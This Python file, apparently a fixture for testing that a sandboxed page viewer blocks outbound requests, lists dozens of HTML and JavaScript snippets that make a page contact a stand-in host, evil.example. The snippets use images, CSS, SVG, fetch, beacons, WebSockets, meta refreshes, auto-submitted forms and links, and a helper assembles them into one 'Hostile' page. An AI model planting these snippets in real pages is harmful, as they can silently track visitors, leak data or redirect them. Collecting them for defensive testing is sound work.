"""What pages do to reach the live web, each with a name that stands in the address it asks for."""

from __future__ import annotations

EVIL = "http://evil.example"

PASSIVE = {
    "img": '<img src="{url}">',
    "srcset": '<img srcset="{url} 1x">',
    "picture": '<picture><source srcset="{url}"><img alt=p></picture>',
    "css-import": '<style>@import "{url}";</style>',
    "css-sheet": '<link rel="stylesheet" href="{url}">',
    "css-background": '<p style="background-image: url({url})">background</p>',
    "css-escaped": '<p style="background-image: u\\72l({url})">background</p>',
    "css-font": "<style>@font-face {{ font-family: f; src: url({url}) }} b {{ font-family: f }}</style><b>Font</b>",
    "css-property": "<style>:root {{ --x: url({url}) }} i {{ background: var(--x) }}</style><i>property</i>",
    "css-image-set": "<p style=\"background-image: image-set('{url}' 1x)\">set</p>",
    "css-cursor": '<style>u {{ list-style-image: url("{url}"); display: list-item }}</style><u>list</u>',
    "icon": '<link rel="icon" href="{url}">',
    "prefetch": '<link rel="prefetch" href="{url}">',
    "preload": '<link rel="preload" as="image" href="{url}">',
    "modulepreload": '<link rel="modulepreload" href="{url}">',
    "preconnect": '<link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{url}">',
    "iframe": '<iframe src="{url}"></iframe>',
    "srcdoc-img": "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
    "srcdoc-script": "<iframe srcdoc=\"<script>new Image().src = '{url}'</script>\"></iframe>",
    "data-frame": "<iframe src=\"data:text/html,<img src='{url}'>\"></iframe>",
    "object": '<object data="{url}"></object>',
    "embed": '<embed src="{url}">',
    "video": '<video src="{url}" preload="auto"></video>',
    "poster": '<video poster="{url}"></video>',
    "audio": '<audio src="{url}" preload="auto"></audio>',
    "input": '<input type="image" src="{url}">',
    "body": '<table background="{url}"><tr><td>t</table>',
    "svg-image": '<svg width="9" height="9"><image href="{url}" width="9" height="9" /></svg>',
    "svg-feimage": '<svg width="9" height="9"><filter id="f"><feImage href="{url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-script": '<svg><script>new Image().src = "{url}"</script></svg>',
    "script-src": '<script src="{url}"></script>',
    "fetch": '<script>fetch("{url}", {{mode: "no-cors"}})</script>',
    "xhr": '<script>var x = new XMLHttpRequest(); x.open("GET", "{url}"); x.send()</script>',
    "beacon": '<script>navigator.sendBeacon("{url}", "x")</script>',
    "event-source": '<script>new EventSource("{url}")</script>',
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{url}', {{mode: 'no-cors'}})\"])))</script>",
    "web-socket": '<script>new WebSocket("{url}".replace("http", "ws"))</script>',
    "data-web-socket": "<iframe src=\"data:text/html,<script>new WebSocket('{url}'.replace('http', 'ws'))</script>\"></iframe>",
    "onerror": '<img src="data:image/png;base64,x" onerror="new Image().src = \'{url}\'">',
    "onload": "<svg onload=\"new Image().src = '{url}'\"></svg>",
    "frame-refresh": "<iframe srcdoc=\"<meta http-equiv='refresh' content='0; url={url}'>\"></iframe>",
    "frame-location": "<iframe srcdoc=\"<script>new Function('location = `{url}`')()</script>\"></iframe>",
}
"""What asks by itself as soon as the page is open."""
LEAVING = {
    "refresh": '<meta http-equiv="refresh" content="0; url={url}">',
    "location": '<script>new Function("location = \\"{url}\\"")()</script>',
    "top": '<script>top.location = "{url}"</script>',
    "form-script": '<form id="f" action="{url}" method="post"><input name="a"></form><script>f.submit()</script>',
    "window": '<script>open("{url}")</script>',
}
"""What leaves the page for another one by itself."""
CLICKED = {
    "link": '<a href="{url}">go</a>',
    "link-top": '<a href="{url}" target="_top">go</a>',
    "link-blank": '<a href="{url}" target="_blank" rel="opener">go</a>',
    "link-base": '<base href="{url}"><a href="?x">go</a>',
    "link-ping": '<a href="#here" ping="{url}">go</a>',
    "link-script": "<a href=\"javascript:location='{url}'\">go</a>",
    "link-svg": '<svg width="90" height="90"><a xlink:href="{url}"><text y="20">go</text></a></svg>',
    "link-animated": '<svg width="90" height="90"><a><animate attributeName="href" values="{url}" dur="1s" fill="freeze"/><text y="20">go</text></a></svg>',
    "form": '<form action="{url}"><button>go</button></form>',
    "form-button": '<form><button formaction="{url}">go</button></form>',
}
"""What leads out when a person clicks on it."""


def page(attacks: dict[str, str], host: str = EVIL) -> bytes:
    """Return one page with all of *attacks*."""
    parts = "".join(attack.format(url=f"{host}/{name}") for name, attack in attacks.items())
    return f"<!doctype html><title>Hostile</title><p>Words of the page</p>{parts}".encode()
